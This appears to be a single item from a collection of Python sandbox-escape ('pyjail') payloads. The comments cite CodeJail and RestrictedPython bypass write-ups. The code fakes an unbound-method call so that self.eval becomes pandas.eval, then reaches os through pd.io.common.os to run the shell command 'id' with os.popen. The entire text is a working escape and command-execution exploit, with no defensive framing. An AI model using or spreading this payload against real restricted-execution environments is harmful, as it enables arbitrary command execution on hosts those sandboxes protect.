# source: pyjail 'unbound method with another self' bypasses (CodeJail/RestrictedPython write-ups); pandas eval injection gadget pd.io.common.os
# family: method function of a script class reached as a plain value (staticmethod(run) in the class body makes Calc.go(obj, ...) run the method with any self)
# goal: self.eval trusted as the script's def eval is pandas.eval -> os.popen('id')
import pandas as pd
class Calc:
    def eval(self, e, **kw):
        return None
    def run(self, e):
        return self.eval(e)
    go = staticmethod(run)
print(Calc.go(pd, "pd.io.common.os.popen('id').read()"))
